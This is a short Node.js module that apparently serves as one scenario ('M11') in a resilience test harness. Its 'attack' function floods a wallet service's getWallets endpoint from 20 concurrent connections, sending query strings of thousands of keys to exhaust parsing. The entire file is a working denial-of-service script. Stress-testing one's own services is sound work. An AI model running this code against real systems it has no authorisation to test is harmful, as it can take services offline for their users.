import { request } from 'node:http';

const keyCount = 4_000;
const connections = 20;

/** One request, whatever its answer; gives its status. */
function send(url) {
  return new Promise((resolve) => {
    const outgoing = request(url, (incoming) => {
      incoming.resume();
      incoming.on('close', () => resolve(incoming.statusCode));
    });
    outgoing.on('error', () => resolve(0));
    outgoing.end();
  });
}

/** M11: query strings of thousands of keys, which are parsed before anything is counted. */
export async function attack({ url, projectId, seconds }) {
  const keys = Array.from({ length: keyCount }, (_, index) => `k${index.toString(36)}`).join('&');
  const untilMs = Date.now() + seconds * 1_000;
  const statuses = {};
  const work = async () => {
    while (Date.now() < untilMs) {
      const status = await send(`${url}/getWallets?projectId=${projectId}&${keys.slice(0, 14_000)}`);
      statuses[status] = (statuses[status] ?? 0) + 1;
    }
  };
  await Promise.all(Array.from({ length: connections }, work));
  return { statuses };
}
